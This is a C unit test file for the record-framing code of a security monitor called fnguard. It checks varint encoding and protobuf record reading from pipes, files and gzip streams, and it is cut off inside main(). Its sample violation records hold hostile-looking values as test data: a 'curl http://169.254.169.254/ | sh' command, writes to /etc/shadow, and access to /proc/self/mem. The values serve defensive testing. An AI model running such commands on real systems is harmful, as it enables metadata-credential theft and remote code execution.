// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * frame: varints, and reading length-delimited Records from pipes, files and gzip streams in
 * arbitrary pieces. The records are real fnguard.v1 messages, packed and unpacked with
 * protobuf-c, so this is also the schema's encode/decode round trip.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

#include "frame.h"
#include "fnguard.pb-c.h"
#include "util.h"

/* Varints */

static void test_varint_encode(void **state)
{
	static const struct {
		uint64_t v;
		size_t len;
		const char *bytes;
	} cases[] = {
		{ 0, 1, "\x00" },
		{ 1, 1, "\x01" },
		{ 127, 1, "\x7f" },
		{ 128, 2, "\x80\x01" },
		{ 300, 2, "\xac\x02" },
		{ 16383, 2, "\xff\x7f" },
		{ 16384, 3, "\x80\x80\x01" },
		{ FNG_FRAME_MAX, 4, "\x80\x80\x80\x02" },
		{ 1ull << 63, 10, "\x80\x80\x80\x80\x80\x80\x80\x80\x80\x01" },
		{ UINT64_MAX, 10, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		uint8_t out[FNG_VARINT_MAX];
		uint64_t v = 12345;

		assert_int_equal(frame_varint_encode(cases[i].v, out), cases[i].len);
		assert_memory_equal(out, cases[i].bytes, cases[i].len);
		assert_int_equal(frame_varint_decode(out, cases[i].len, &v), (int)cases[i].len);
		assert_true(v == cases[i].v);
		/* Every proper prefix is "not yet". */
		for (size_t k = 0; k < cases[i].len; k++)
			assert_int_equal(frame_varint_decode(out, k, &v), 0);
	}
}

static void test_varint_decode_edges(void **state)
{
	uint8_t buf[16];
	uint64_t v = 0;

	/* Bytes after the varint are not its business. */
	assert_int_equal(frame_varint_decode((const uint8_t *)"\x96\x01\xff\xff", 4, &v), 2);
	assert_true(v == 150);
	/* A longer than needed (non-canonical) encoding is still a varint, as protobuf reads it. */
	assert_int_equal(frame_varint_decode((const uint8_t *)"\x80\x00", 2, &v), 2);
	assert_true(v == 0);
	assert_int_equal(
		frame_varint_decode((const uint8_t *)"\xff\x80\x80\x80\x80\x80\x80\x80\x80\x00", 10,
				    &v),
		10);
	assert_true(v == 127);

	/* 11 bytes: more than any 64-bit value needs. */
	memset(buf, 0x80, 10);
	buf[10] = 0x00;
	assert_int_equal(frame_varint_decode(buf, 11, &v), -EBADMSG);
	memset(buf, 0xff, 10);
	buf[10] = 0x01;
	assert_int_equal(frame_varint_decode(buf, 11, &v), -EBADMSG);
	/* Ten continuation bytes are already too long, whatever follows. */
	assert_int_equal(frame_varint_decode(buf, 10, &v), -EBADMSG);
	/* The tenth byte may only carry bit 63. */
	memset(buf, 0xff, 9);
	buf[9] = 0x02;
	assert_int_equal(frame_varint_decode(buf, 10, &v), -EBADMSG);
	buf[9] = 0x7f;
	assert_int_equal(frame_varint_decode(buf, 10, &v), -EBADMSG);

	/* Truncated: not an error, just not complete yet. */
	assert_int_equal(frame_varint_decode(buf, 0, &v), 0);
	assert_int_equal(frame_varint_decode(buf, 9, &v), 0);
	assert_int_equal(frame_varint_decode((const uint8_t *)"\x80", 1, &v), 0);
}

/* Records */

/* One record of each shape: every detail kind, a summary and two agent events. */
struct records {
	Fnguard__V1__Function fn, fn2;
	Fnguard__V1__Process proc;
	Fnguard__V1__Egress eg;
	Fnguard__V1__FileAccess file;
	Fnguard__V1__Exec exec;
	char *argv[3];
	Fnguard__V1__IoUring io;
	Fnguard__V1__Syscall sc;
	Fnguard__V1__Violation v[5];
	Fnguard__V1__FunctionCounts fc[2];
	Fnguard__V1__FunctionCounts *fcp[2];
	Fnguard__V1__Summary sum;
	Fnguard__V1__EnforcementPoint ep[2];
	Fnguard__V1__EnforcementPoint *epp[2];
	Fnguard__V1__AgentEvent start, rejected;
	Fnguard__V1__Record rec[8];
	size_t n;
};

#define T0 1714566896789000000ull

static void records_init(struct records *r)
{
	memset(r, 0, sizeof(*r));
	fnguard__v1__function__init(&r->fn);
	r->fn.platform = "openfaas";
	r->fn.namespace_ = "openfaas-fn";
	r->fn.name = "checkout";
	r->fn.revision = "v7";
	r->fn.pod = "checkout-7d9f";
	r->fn.container = "checkout";
	r->fn.container_id = "0123456789abcdef";
	r->fn.cgroup_id = 1ull << 40;
	r->fn.cgroup_path = "/kubepods/besteffort/pod1/0123456789abcdef";
	fnguard__v1__function__init(&r->fn2);
	r->fn2.platform = "host";
	r->fn2.cgroup_id = 77;
	r->fn2.cgroup_path = "/system.slice/faasd.service";
	fnguard__v1__process__init(&r->proc);
	r->proc.pid = 4194303;
	r->proc.tid = 4194304;
	r->proc.ppid = 1;
	r->proc.uid = 65534;
	r->proc.gid = UINT32_MAX;
	r->proc.comm = "python3";
	r->proc.exe = "/usr/bin/python3.11";

	fnguard__v1__egress__init(&r->eg);
	r->eg.address = "2001:db8::1";
	r->eg.port = 65535;
	r->eg.protocol = FNGUARD__V1__PROTOCOL__UDP;
	r->eg.family = FNGUARD__V1__FAMILY__IPV6;
	fnguard__v1__file_access__init(&r->file);
	r->file.path = "/etc/shadow";
	r->file.flags = 0x80042;
	r->file.write = 1;
	r->file.operation = "open";
	fnguard__v1__exec__init(&r->exec);
	r->exec.path = "/bin/sh";
	r->argv[0] = "sh";
	r->argv[1] = "-c";
	r->argv[2] = "curl http://169.254.169.254/ | sh";
	r->exec.argv = r->argv;
	r->exec.n_argv = 3;
	r->exec.fileless = 1;
	fnguard__v1__io_uring__init(&r->io);
	r->io.opcode = "IORING_OP_OPENAT";
	r->io.target_case = FNGUARD__V1__IO_URING__TARGET_PATH;
	r->io.path = "/proc/self/mem";
	fnguard__v1__syscall__init(&r->sc);
	r->sc.name = "ptrace";

	for (size_t i = 0; i < ARRAY_SIZE(r->v); i++) {
		Fnguard__V1__Violation *v = &r->v[i];

		fnguard__v1__violation__init(v);
		v->time_unix_nano = T0 + i;
		v->node = "node-1";
		v->function = i == 4 ? &r->fn2 : &r->fn;
		v->process = &r->proc;
		v->kind = (Fnguard__V1__Kind)(i + 1);
		v->action = (Fnguard__V1__Action)(i % 3 + 1);
		v->mechanism = (Fnguard__V1__Mechanism)(i % 4 + 1);
		v->profile = "checkout";
		v->profile_generation = UINT64_MAX - i;
		v->mode = (Fnguard__V1__Mode)(i % 3 + 1);
	}
	r->v[0].detail_case = FNGUARD__V1__VIOLATION__DETAIL_EGRESS;
	r->v[0].egress = &r->eg;
	r->v[1].detail_case = FNGUARD__V1__VIOLATION__DETAIL_FILE;
	r->v[1].file = &r->file;
	r->v[2].detail_case = FNGUARD__V1__VIOLATION__DETAIL_EXEC;
	r->v[2].exec = &r->exec;
	r->v[3].detail_case = FNGUARD__V1__VIOLATION__DETAIL_IO_URING;
	r->v[3].io_uring = &r->io;
	r->v[4].detail_case = FNGUARD__V1__VIOLATION__DETAIL_SYSCALL;
	r->v[4].syscall = &r->sc;

	for (size_t i = 0; i < 2; i++) {
		fnguard__v1__function_counts__init(&r->fc[i]);
		r->fc[i].function = i ? &r->fn2 : &r->fn;
		r->fc[i].profile = i ? "host" : "checkout";
		r->fc[i].reported = 1000 + i;
		r->fc[i].rate_limited = 20 + i;
		r->fc[i].dropped = i ? 0 : UINT64_MAX;
		r->fcp[i] = &r->fc[i];
	}
	fnguard__v1__summary__init(&r->sum);
	r->sum.start_unix_nano = T0 - 10000000000ull;
	r->sum.end_unix_nano = T0;
	r->sum.node = "node-1";
	r->sum.n_functions = 2;
	r->sum.functions = r->fcp;

	for (size_t i = 0; i < 2; i++) {
		fnguard__v1__enforcement_point__init(&r->ep[i]);
		r->ep[i].point = i ? "exec" : "egress.connect4";
		r->ep[i].mechanism =
			i ? FNGUARD__V1__MECHANISM__SIGNAL : FNGUARD__V1__MECHANISM__CGROUP_HOOK;
		r->ep[i].hook = i ? "tp_btf/sched_process_exec" : "cgroup/connect4";
		r->epp[i] = &r->ep[i];
	}
	fnguard__v1__agent_event__init(&r->start);
	r->start.time_unix_nano = T0 - 1;
	r->start.node = "node-1";
	r->start.type = FNGUARD__V1__AGENT_EVENT__TYPE__START;
	r->start.version = "0.1.0";
	r->start.n_enforcement = 2;
	r->start.enforcement = r->epp;
	fnguard__v1__agent_event__init(&r->rejected);
	r->rejected.time_unix_nano = T0 + 99;
	r->rejected.node = "node-1";
	r->rejected.type = FNGUARD__V1__AGENT_EVENT__TYPE__PROFILE_REJECTED;
	r->rejected.profile = "checkout";
	r->rejected.profile_generation = 5;
	r->rejected.mode = FNGUARD__V1__MODE__LEARN;
	r->rejected.file = "/etc/fnguard/profiles/checkout.yaml";
	r->rejected.line = 12;
	r->rejected.column = 5;
	r->rejected.message = "egress[2].to: \"10.0.0/8\" is not a CIDR";

	r->n = 0;
	fnguard__v1__record__init(&r->rec[r->n]);
	r->rec[r->n].record_case = FNGUARD__V1__RECORD__RECORD_AGENT;
	r->rec[r->n++].agent = &r->start;
	for (size_t i = 0; i < ARRAY_SIZE(r->v); i++) {
		fnguard__v1__record__init(&r->rec[r->n]);
		r->rec[r->n].record_case = FNGUARD__V1__RECORD__RECORD_VIOLATION;
		r->rec[r->n++].violation = &r->v[i];
	}
	fnguard__v1__record__init(&r->rec[r->n]);
	r->rec[r->n].record_case = FNGUARD__V1__RECORD__RECORD_SUMMARY;
	r->rec[r->n++].summary = &r->sum;
	fnguard__v1__record__init(&r->rec[r->n]);
	r->rec[r->n].record_case = FNGUARD__V1__RECORD__RECORD_AGENT;
	r->rec[r->n++].agent = &r->rejected;
}

/* Append records [from, to) as length-delimited frames. */
static void frames_append(struct fng_buf *b, const struct records *r, size_t from, size_t to)
{
	for (size_t i = from; i < to; i++) {
		size_t size = fnguard__v1__record__get_packed_size(&r->rec[i]);
		uint8_t hdr[FNG_VARINT_MAX];
		size_t n = frame_varint_encode(size, hdr);

		assert_int_equal(buf__append(b, hdr, n), 0);
		assert_int_equal(buf__reserve(b, size), 0);
		assert_int_equal(fnguard__v1__record__pack(&r->rec[i], (uint8_t *)b->p + b->len),
				 size);
		b->len += size;
	}
}

/* Comparing every field of what came back with what went in */

static void assert_str(const char *got, const char *want)
{
	/* protobuf-c unpacks an absent string as "" */
	assert_string_equal(got ? got : "", want ? want : "");
}

static void assert_function(const Fnguard__V1__Function *got, const Fnguard__V1__Function *want)
{
	if (!want) {
		assert_null(got);
		return;
	}
	assert_non_null(got);
	assert_str(got->platform, want->platform);
	assert_str(got->namespace_, want->namespace_);
	assert_str(got->name, want->name);
	assert_str(got->revision, want->revision);
	assert_str(got->pod, want->pod);
	assert_str(got->container, want->container);
	assert_str(got->container_id, want->container_id);
	assert_true(got->cgroup_id == want->cgroup_id);
	assert_str(got->cgroup_path, want->cgroup_path);
}

static void assert_process(const Fnguard__V1__Process *got, const Fnguard__V1__Process *want)
{
	assert_non_null(got);
	assert_int_equal(got->pid, want->pid);
	assert_int_equal(got->tid, want->tid);
	assert_int_equal(got->ppid, want->ppid);
	assert_int_equal(got->uid, want->uid);
	assert_int_equal(got->gid, want->gid);
	assert_str(got->comm, want->comm);
	assert_str(got->exe, want->exe);
}

static void assert_violation(const Fnguard__V1__Violation *got, const Fnguard__V1__Violation *want)
{
	assert_non_null(got);
	assert_true(got->time_unix_nano == want->time_unix_nano);
	assert_str(got->node, want->node);
	assert_function(got->function, want->function);
	assert_process(got->process, want->process);
	assert_int_equal(got->kind, want->kind);
	assert_int_equal(got->action, want->action);
	assert_int_equal(got->mechanism, want->mechanism);
	assert_str(got->profile, want->profile);
	assert_true(got->profile_generation == want->profile_generation);
	assert_int_equal(got->mode, want->mode);
	assert_int_equal(got->detail_case, want->detail_case);
	switch (want->detail_case) {
	case FNGUARD__V1__VIOLATION__DETAIL_EGRESS:
		assert_str(got->egress->address, want->egress->address);
		assert_int_equal(got->egress->port, want->egress->port);
		assert_int_equal(got->egress->protocol, want->egress->protocol);
		assert_int_equal(got->egress->family, want->egress->family);
		break;
	case FNGUARD__V1__VIOLATION__DETAIL_FILE:
		assert_str(got->file->path, want->file->path);
		assert_int_equal(got->file->flags, want->file->flags);
		assert_int_equal(got->file->write, want->file->write);
		assert_str(got->file->operation, want->file->operation);
		break;
	case FNGUARD__V1__VIOLATION__DETAIL_EXEC:
		assert_str(got->exec->path, want->exec->path);
		assert_int_equal(got->exec->n_argv, want->exec->n_argv);
		for (size_t i = 0; i < want->exec->n_argv; i++)
			assert_str(got->exec->argv[i], want->exec->argv[i]);
		assert_int_equal(got->exec->fileless, want->exec->fileless);
		break;
	case FNGUARD__V1__VIOLATION__DETAIL_IO_URING:
		assert_str(got->io_uring->opcode, want->io_uring->opcode);
		assert_int_equal(got->io_uring->target_case, want->io_uring->target_case);
		assert_str(got->io_uring->path, want->io_uring->path);
		break;
	case FNGUARD__V1__VIOLATION__DETAIL_SYSCALL:
		assert_str(got->syscall->name, want->syscall->name);
		break;
	default:
		break;
	}
}

static void assert_summary(const Fnguard__V1__Summary *got, const Fnguard__V1__Summary *want)
{
	assert_non_null(got);
	assert_true(got->start_unix_nano == want->start_unix_nano);
	assert_true(got->end_unix_nano == want->end_unix_nano);
	assert_str(got->node, want->node);
	assert_int_equal(got->n_functions, want->n_functions);
	for (size_t i = 0; i < want->n_functions; i++) {
		const Fnguard__V1__FunctionCounts *g = got->functions[i], *w = want->functions[i];

		assert_function(g->function, w->function);
		assert_str(g->profile, w->profile);
		assert_true(g->reported == w->reported);
		assert_true(g->rate_limited == w->rate_limited);
		assert_true(g->dropped == w->dropped);
	}
}

static void assert_agent(const Fnguard__V1__AgentEvent *got, const Fnguard__V1__AgentEvent *want)
{
	assert_non_null(got);
	assert_true(got->time_unix_nano == want->time_unix_nano);
	assert_str(got->node, want->node);
	assert_int_equal(got->type, want->type);
	assert_str(got->version, want->version);
	assert_str(got->profile, want->profile);
	assert_true(got->profile_generation == want->profile_generation);
	assert_int_equal(got->mode, want->mode);
	assert_str(got->file, want->file);
	assert_int_equal(got->line, want->line);
	assert_int_equal(got->column, want->column);
	assert_str(got->message, want->message);
	assert_int_equal(got->n_enforcement, want->n_enforcement);
	for (size_t i = 0; i < want->n_enforcement; i++) {
		assert_str(got->enforcement[i]->point, want->enforcement[i]->point);
		assert_int_equal(got->enforcement[i]->mechanism, want->enforcement[i]->mechanism);
		assert_str(got->enforcement[i]->hook, want->enforcement[i]->hook);
	}
}

static void assert_record(const uint8_t *msg, size_t len, const Fnguard__V1__Record *want)
{
	Fnguard__V1__Record *got = fnguard__v1__record__unpack(NULL, len, msg);

	assert_non_null(got);
	assert_int_equal(got->record_case, want->record_case);
	switch (want->record_case) {
	case FNGUARD__V1__RECORD__RECORD_VIOLATION:
		assert_violation(got->violation, want->violation);
		break;
	case FNGUARD__V1__RECORD__RECORD_SUMMARY:
		assert_summary(got->summary, want->summary);
		break;
	case FNGUARD__V1__RECORD__RECORD_AGENT:
		assert_agent(got->agent, want->agent);
		break;
	default:
		fail();
	}
	fnguard__v1__record__free_unpacked(got, NULL);
}

/* Read records [from, to) of @want from @r, checking each and the offset after it. */
static void expect_records(struct frame_reader *r, const struct records *want, size_t from,
			   size_t to)
{
	for (size_t i = from; i < to; i++) {
		const uint8_t *msg = NULL;
		size_t len = 0;
		int rc = frame_reader__next(r, &msg, &len);

		if (rc != 1)
			fail_msg("record %zu: next() = %d", i, rc);
		assert_int_equal(len, fnguard__v1__record__get_packed_size(&want->rec[i]));
		assert_record(msg, len, &want->rec[i]);
	}
}

static void expect_end(struct frame_reader *r, uint64_t offset)
{
	const uint8_t *msg;
	size_t len;

	assert_int_equal(frame_reader__next(r, &msg, &len), 0);
	assert_false(frame_reader__partial(r));
	assert_true(frame_reader__offset(r) == offset);
	/* End of input stays the end. */
	assert_int_equal(frame_reader__next(r, &msg, &len), 0);
}

/* Input sources */

/*
 * A pipe fed by a child process in writes of @chunk bytes. With O_DIRECT the pipe is in packet
 * mode, so that each read(2) gets exactly one write: chunk 1 really is one byte per read.
 */
static int writer_spawn(const void *data, size_t len, size_t chunk, pid_t *pid)
{
	int fds[2];

	if (pipe2(fds, O_DIRECT | O_CLOEXEC) && pipe2(fds, O_CLOEXEC))
		return -errno;
	*pid = fork();
	assert_true(*pid >= 0);
	if (!*pid) {
		const char *p = data;

		close(fds[0]);
		while (len) {
			size_t n = len < chunk ? len : chunk;

			if (write_all(fds[1], p, n))
				_exit(1);
			p += n;
			len -= n;
		}
		_exit(0);
	}
	close(fds[1]);
	return fds[0];
}

static void writer_wait(pid_t pid)
{
	int status;

	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

/* mkstemp in $TMPDIR; returns the open fd and fills @path. */
static int temp_file(char path[64])
{
	const char *dir = getenv("TMPDIR");
	int fd;

	snprintf(path, 64, "%s/fng-frame-XXXXXX", dir && strlen(dir) < 40 ? dir : "/tmp");
	fd = mkstemp(path);
	assert_true(fd >= 0);
	return fd;
}

/* Write @data as one gzip member to @path: "wb" starts the file, "ab" appends a member. */
static void gz_write(const char *path, const char *mode, const void *data, size_t len)
{
	gzFile gz = gzopen(path, mode);

	assert_non_null(gz);
	if (len)
		assert_int_equal(gzwrite(gz, data, (unsigned)len), (int)len);
	assert_int_equal(gzclose(gz), Z_OK);
}

/* Tests */

static void test_pipe_one_byte_at_a_time(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	pid_t pid;
	int fd;

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n);
	fd = writer_spawn(stream.p, stream.len, 1, &pid);
	r = frame_reader__new(fd);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	expect_end(r, stream.len);
	frame_reader__free(r);
	writer_wait(pid);
	buf__free(&stream);
}

static void test_pipe_odd_chunks(void **state)
{
	static const size_t chunks[] = { 2, 3, 7, 64, 4096, 1 << 20 };
	struct records recs;
	struct fng_buf stream = { 0 };

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n);
	for (size_t i = 0; i < ARRAY_SIZE(chunks); i++) {
		struct frame_reader *r;
		pid_t pid;

		r = frame_reader__new(writer_spawn(stream.p, stream.len, chunks[i], &pid));
		assert_non_null(r);
		expect_records(r, &recs, 0, recs.n);
		expect_end(r, stream.len);
		frame_reader__free(r);
		writer_wait(pid);
	}
	buf__free(&stream);
}

static void test_plain_file(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	char path[64];
	int fd = temp_file(path);

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n);
	assert_int_equal(write_all(fd, stream.p, stream.len), 0);
	close(fd);
	r = frame_reader__open(path);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	expect_end(r, stream.len);
	frame_reader__free(r);
	unlink(path);
	buf__free(&stream);
}

static void test_gzip_file(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	char path[64];

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n);
	close(temp_file(path));
	gz_write(path, "wb", stream.p, stream.len);
	r = frame_reader__open(path);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	/* The offset counts decompressed bytes. */
	expect_end(r, stream.len);
	frame_reader__free(r);
	unlink(path);
	buf__free(&stream);
}

static void test_gzip_members(void **state)
{
	struct records recs;
	struct fng_buf first = { 0 }, second = { 0 };
	struct frame_reader *r;
	char *gz;
	size_t gz_len;
	char path[64];
	pid_t pid;

	/* Two members as appending .gz files makes them, with an empty one in between. */
	records_init(&recs);
	frames_append(&first, &recs, 0, 3);
	frames_append(&second, &recs, 3, recs.n);
	close(temp_file(path));
	gz_write(path, "wb", first.p, first.len);
	gz_write(path, "ab", NULL, 0);
	gz_write(path, "ab", second.p, second.len);
	r = frame_reader__open(path);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	expect_end(r, first.len + second.len);
	frame_reader__free(r);

	/* The same through a pipe, one byte per read: inflate must cope with every split. */
	assert_int_equal(read_file(path, 1 << 20, &gz, &gz_len), 0);
	r = frame_reader__new(writer_spawn(gz, gz_len, 1, &pid));
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	expect_end(r, first.len + second.len);
	frame_reader__free(r);
	writer_wait(pid);

	free(gz);
	unlink(path);
	buf__free(&first);
	buf__free(&second);
}

static void test_truncated_then_completed(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	const uint8_t *msg;
	size_t len, cut, last_start;
	char path[64];
	int fd = temp_file(path);

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n - 1);
	last_start = stream.len;
	frames_append(&stream, &recs, recs.n - 1, recs.n);
	/* A writer still busy with the last record: its length and part of its bytes. */
	cut = last_start + 5;
	assert_int_equal(write_all(fd, stream.p, cut), 0);

	r = frame_reader__open(path);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n - 1);
	assert_true(frame_reader__offset(r) == last_start);
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_true(frame_reader__partial(r));
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_true(frame_reader__offset(r) == last_start);

	/* A follower calls again once the file grew. */
	assert_int_equal(write_all(fd, stream.p + cut, stream.len - cut), 0);
	expect_records(r, &recs, recs.n - 1, recs.n);
	expect_end(r, stream.len);
	frame_reader__free(r);

	/* Cut inside the varint itself. */
	assert_int_equal(ftruncate(fd, 0), 0);
	assert_int_equal(pwrite(fd, "\x80", 1, 0), 1);
	r = frame_reader__open(path);
	assert_non_null(r);
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_true(frame_reader__partial(r));
	frame_reader__free(r);

	close(fd);
	unlink(path);
	buf__free(&stream);
}

static void test_truncated_gzip(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	const uint8_t *msg;
	size_t len, gz_len;
	char path[64], *gz;
	int rc, fd;

	records_init(&recs);
	frames_append(&stream, &recs, 0, recs.n);
	close(temp_file(path));
	gz_write(path, "wb", stream.p, stream.len);
	assert_int_equal(read_file(path, 1 << 20, &gz, &gz_len), 0);
	/* Without the end of the trailer every record is there, but the member is not finished. */
	assert_int_equal(truncate(path, (off_t)gz_len - 4), 0);
	r = frame_reader__open(path);
	assert_non_null(r);
	expect_records(r, &recs, 0, recs.n);
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_true(frame_reader__partial(r));
	/* The rest arrives. */
	fd = open(path, O_WRONLY | O_APPEND);
	assert_true(fd >= 0);
	assert_int_equal(write_all(fd, gz + gz_len - 4, 4), 0);
	close(fd);
	expect_end(r, stream.len);
	frame_reader__free(r);

	/* Cut in the middle of the compressed data: some records, then "wait for more". */
	assert_int_equal(truncate(path, (off_t)gz_len / 2), 0);
	r = frame_reader__open(path);
	assert_non_null(r);
	while ((rc = frame_reader__next(r, &msg, &len)) == 1)
		;
	assert_int_equal(rc, -EAGAIN);
	assert_true(frame_reader__partial(r));
	frame_reader__free(r);

	free(gz);
	unlink(path);
	buf__free(&stream);
}

/* Read @data from a file; the first next() result that is not a record. */
static int next_error(const void *data, size_t len, int *records)
{
	struct frame_reader *r;
	const uint8_t *msg;
	size_t mlen;
	char path[64];
	int fd = temp_file(path), rc;

	assert_int_equal(write_all(fd, data, len), 0);
	close(fd);
	r = frame_reader__open(path);
	assert_non_null(r);
	*records = 0;
	while ((rc = frame_reader__next(r, &msg, &mlen)) == 1)
		(*records)++;
	frame_reader__free(r);
	unlink(path);
	return rc;
}

static void test_corrupt_length(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	uint8_t hdr[FNG_VARINT_MAX];
	size_t two;
	int n;

	records_init(&recs);
	frames_append(&stream, &recs, 0, 2);
	two = stream.len;

	/* A length above FNG_FRAME_MAX is corruption, found before any of its bytes arrive. */
	assert_int_equal(buf__append(&stream, hdr, frame_varint_encode(FNG_FRAME_MAX + 1, hdr)), 0);
	assert_int_equal(next_error(stream.p, stream.len, &n), -EBADMSG);
	assert_int_equal(n, 2);

	/* An 11-byte varint. */
	stream.len -= 4;
	assert_int_equal(buf__append(&stream, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", 11),
			 0);
	assert_int_equal(next_error(stream.p, stream.len, &n), -EBADMSG);
	assert_int_equal(n, 2);

	/* A 64-bit length. */
	assert_int_equal(next_error("\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", 10, &n), -EBADMSG);
	assert_int_equal(n, 0);

	/* Garbage after a gzip member is not a new member. */
	{
		char path[64], *gz;
		size_t gz_len;

		close(temp_file(path));
		gz_write(path, "wb", stream.p, two);
		assert_int_equal(read_file(path, 1 << 20, &gz, &gz_len), 0);
		gz = realloc(gz, gz_len + 4);
		assert_non_null(gz);
		memcpy(gz + gz_len, "junk", 4);
		assert_int_equal(next_error(gz, gz_len + 4, &n), -EBADMSG);
		assert_int_equal(n, 2);
		/*
		 * A member whose CRC does not match its content: the records inflated before the
		 * check failed still come first.
		 */
		gz[gz_len - 8] ^= 0xff;
		assert_int_equal(next_error(gz, gz_len, &n), -EBADMSG);
		assert_int_equal(n, 2);
		free(gz);
		unlink(path);
	}
	buf__free(&stream);
}

static void test_frame_max(void **state)
{
	uint8_t hdr[FNG_VARINT_MAX];
	struct frame_reader *r;
	const uint8_t *msg;
	size_t n = frame_varint_encode(FNG_FRAME_MAX, hdr), len;
	char path[64];
	uint8_t *big;
	int fd = temp_file(path);

	/* The largest record there may be, then an empty one: the buffer grows, and still works. */
	big = calloc(1, FNG_FRAME_MAX);
	assert_non_null(big);
	big[0] = 0xab;
	big[FNG_FRAME_MAX - 1] = 0xcd;
	assert_int_equal(write_all(fd, hdr, n), 0);
	assert_int_equal(write_all(fd, big, FNG_FRAME_MAX), 0);
	assert_int_equal(write_all(fd, "\x00", 1), 0);
	close(fd);
	r = frame_reader__open(path);
	assert_non_null(r);
	assert_int_equal(frame_reader__next(r, &msg, &len), 1);
	assert_int_equal(len, FNG_FRAME_MAX);
	assert_memory_equal(msg, big, FNG_FRAME_MAX);
	assert_int_equal(frame_reader__next(r, &msg, &len), 1);
	assert_int_equal(len, 0);
	assert_non_null(msg);
	expect_end(r, n + FNG_FRAME_MAX + 1);
	frame_reader__free(r);
	unlink(path);
	free(big);
}

static void test_nonblocking(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	const uint8_t *msg;
	size_t len;
	int fds[2];

	records_init(&recs);
	frames_append(&stream, &recs, 0, 1);
	assert_int_equal(pipe2(fds, O_NONBLOCK | O_CLOEXEC), 0);
	r = frame_reader__new(fds[0]);
	assert_non_null(r);

	/* Nothing yet. */
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_false(frame_reader__partial(r));
	/* Half a record. */
	assert_int_equal(write_all(fds[1], stream.p, 3), 0);
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_true(frame_reader__partial(r));
	assert_true(frame_reader__offset(r) == 0);
	/* The rest. */
	assert_int_equal(write_all(fds[1], stream.p + 3, stream.len - 3), 0);
	expect_records(r, &recs, 0, 1);
	assert_int_equal(frame_reader__next(r, &msg, &len), -EAGAIN);
	assert_false(frame_reader__partial(r));
	close(fds[1]);
	expect_end(r, stream.len);
	frame_reader__free(r);
	buf__free(&stream);
}

static void test_empty_and_missing(void **state)
{
	Fnguard__V1__Record *rec;
	struct frame_reader *r;
	const uint8_t *msg;
	size_t len;
	int n;

	/* No bytes at all is a clean end. */
	assert_int_equal(next_error("", 0, &n), 0);
	assert_int_equal(n, 0);
	/* A zero-length record is an empty Record, not the end. */
	assert_int_equal(next_error("\x00\x00", 2, &n), 0);
	assert_int_equal(n, 2);
	/* One byte that could begin gzip's magic, then nothing: wait. */
	assert_int_equal(next_error("\x1f", 1, &n), -EAGAIN);
	assert_int_equal(n, 0);

	r = frame_reader__new(open("/dev/null", O_RDONLY | O_CLOEXEC));
	assert_non_null(r);
	assert_int_equal(frame_reader__next(r, &msg, &len), 0);
	assert_false(frame_reader__partial(r));
	frame_reader__free(r);

	rec = fnguard__v1__record__unpack(NULL, 0, (const uint8_t *)"");
	assert_non_null(rec);
	assert_int_equal(rec->record_case, FNGUARD__V1__RECORD__RECORD__NOT_SET);
	fnguard__v1__record__free_unpacked(rec, NULL);

	errno = 0;
	assert_null(frame_reader__open("/nonexistent/fnguard/events.pb"));
	assert_int_equal(errno, ENOENT);
	frame_reader__free(NULL);
}

static void test_large_record_in_pieces(void **state)
{
	struct records recs;
	struct fng_buf stream = { 0 };
	struct frame_reader *r;
	char path[64], *gz, *arg;
	size_t gz_len;
	pid_t pid;

	/* One record bigger than the reader's first buffer, between two small ones. */
	records_init(&recs);
	arg = malloc(300000);
	assert_non_null(arg);
	memset(arg, 'A', 299999);
	arg[299999] = '\0';
	recs.argv[1] = arg;
	frames_append(&stream, &recs, 1, 4);
	r = frame_reader__new(writer_spawn(stream.p, stream.len, 4093, &pid));
	assert_non_null(r);
	expect_records(r, &recs, 1, 4);
	expect_end(r, stream.len);
	frame_reader__free(r);
	writer_wait(pid);

	close(temp_file(path));
	gz_write(path, "wb", stream.p, stream.len);
	assert_int_equal(read_file(path, 1 << 20, &gz, &gz_len), 0);
	r = frame_reader__new(writer_spawn(gz, gz_len, 33, &pid));
	assert_non_null(r);
	expect_records(r, &recs, 1, 4);
	expect_end(r, stream.len);
	frame_reader__free(r);
	writer_wait(pid);

	free(gz);
	unlink(path);
	free(arg);
	buf__free(&stream);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
